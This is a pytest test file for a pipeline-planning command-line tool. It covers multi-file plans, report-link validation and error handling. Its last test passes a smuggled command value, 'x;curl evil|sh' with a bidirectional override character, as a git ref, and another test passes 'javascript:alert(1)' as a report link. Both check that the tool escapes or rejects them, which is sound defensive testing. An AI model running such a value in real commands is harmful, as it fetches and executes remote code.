"""`civflow plan PATH...` and `plan --base REF` on the command line: many files, the
comment's report link, and errors that are located, exit 2 and never a traceback."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.review.support import MODEL, cli, commit, git, make_repo, write

PIPELINE = f"""\
version: 1
name: NAME
steps:
  shot:
    type: imageGen
    input:
      engine: sdcpp
      ecosystem: sdxl
      operation: createImage
      model: {MODEL}
      prompt: PROMPT
      width: 64
      height: 64
"""


def pipeline(name: str, prompt: str = "a fox") -> str:
    return PIPELINE.replace("NAME", name).replace("PROMPT", prompt)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = make_repo(tmp_path / "repo")
    write(root, {"pipelines/a.yaml": pipeline("a"), "pipelines/b.yaml": pipeline("b")})
    commit(root, "two pipelines")
    return root


def test_plan_takes_many_paths_without_base(repo: Path, capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Promise: without --base, `plan` takes files, folders and globs; one file prints
    exactly what it always did, several print one plan each (JSON: a list)."""
    one = cli(capsys, monkeypatch, repo, "plan", "pipelines/a.yaml", "--format", "json")
    assert one.code == 0 and json.loads(one.out)["pipeline"] == "a"
    many = cli(capsys, monkeypatch, repo, "plan", "pipelines", "--format", "json")
    assert many.code == 0
    assert [p["pipeline"] for p in json.loads(many.out)] == ["a", "b"]
    text = cli(capsys, monkeypatch, repo, "plan", "pipelines/*.yaml")
    assert text.code == 0
    assert [line.split(":")[0] for line in text.out.splitlines()
            if line and not line.startswith(" ")] == ["a", "b"]
    none = cli(capsys, monkeypatch, repo, "plan", "nothing/*.yaml")
    assert none.code == 2 and "no pipeline files found" in none.err


def test_report_url_is_linked_and_checked(repo: Path, capsys: pytest.CaptureFixture[str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Promise: --report-url puts a link to the HTML report in the comment; a value that
    could break out of the link, or the flag without --base, is a usage error."""
    write(repo, {"pipelines/a.yaml": pipeline("a", "a red fox")})
    url = "https://github.com/o/r/actions/runs/1/artifacts/2"
    done = cli(capsys, monkeypatch, repo, "plan", "pipelines", "--base", "main",
               "--format", "markdown", "--report-url", url)
    assert done.code == 0, done.err
    assert f"]({url})" in done.out
    for bad in ("javascript:alert(1)", "https://x/a)(b", "https://x/ y"):
        done = cli(capsys, monkeypatch, repo, "plan", "pipelines", "--base", "main",
                   "--format", "markdown", "--report-url", bad)
        assert done.code == 2 and "expected an http(s) URL" in done.err
    done = cli(capsys, monkeypatch, repo, "plan", "pipelines", "--report-url", url)
    assert done.code == 2 and "--report-url goes with --base" in done.err


def test_errors_are_exit_2_without_traceback(repo: Path, tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str],
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """Promise: an unknown ref, an unknown --force step, a broken head pipeline and a
    folder outside any git repository each end with exit 2 and a message, no traceback."""
    cases = [
        ((repo, "plan", "pipelines", "--base", "no-such-branch"),
         "error: --base no-such-branch: no such commit"),
        ((repo, "plan", "pipelines", "--base", "main", "--force", "shoot"),
         "no step named 'shoot'"),
    ]
    for (cwd, *args), expected in cases:
        done = cli(capsys, monkeypatch, cwd, *args)
        assert done.code == 2, (args, done.err)
        assert expected in done.err and "Traceback" not in done.err
    write(repo, {"pipelines/a.yaml": pipeline("a").replace("    type: imageGen\n",
                                                           "    type: imageGen\n    bogus: 1\n")})
    done = cli(capsys, monkeypatch, repo, "plan", "pipelines", "--base", "main")
    assert done.code == 2 and done.err.startswith("pipelines/a.yaml:6:5: unknown key")
    alone = tmp_path / "not-a-repo"
    write(alone, {"a.yaml": pipeline("a")})
    done = cli(capsys, monkeypatch, alone, "plan", "a.yaml", "--base", "main")
    assert done.code == 2 and "is not inside a git repository" in done.err


def test_a_base_that_does_not_load_counts_as_absent(
        repo: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Promise: a pipeline that was broken on the base (the PR fixes it) is reviewed as
    added, with a note quoting the base's error at `REF:path`."""
    git(repo, "checkout", "-q", "-b", "fix")
    write(repo, {"pipelines/a.yaml": "version: 1\nname: a\nsteps: [\n"})
    commit(repo, "broken")
    git(repo, "branch", "-q", "broken")
    write(repo, {"pipelines/a.yaml": pipeline("a")})
    done = cli(capsys, monkeypatch, repo, "plan", "pipelines/a.yaml", "--base", "broken",
               "--format", "markdown")
    assert done.code == 0, done.err
    assert "0 changed, 1 added" in done.out
    assert "could not be planned" in done.out and "broken&#58;pipelines/a.yaml" in done.out


def test_a_hostile_ref_is_quoted_in_the_hint_and_shown_escaped(
        repo: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Promise: the commands a hint suggests are safe to paste whatever ref was given,
    and a bidirectional override cannot reorder what the terminal shows."""
    hostile = "x;curl evil|sh\u202e"
    done = cli(capsys, monkeypatch, repo, "plan", "pipelines", "--base", hostile)
    assert done.code == 2, done.err
    assert "\u202e" not in done.err and "\\u202e" in done.err
    assert "`git fetch origin 'x;curl evil|sh\\u202e'`" in done.err, done.err
    assert done.err.startswith("error: --base 'x;curl evil|sh\\u202e': no such commit")
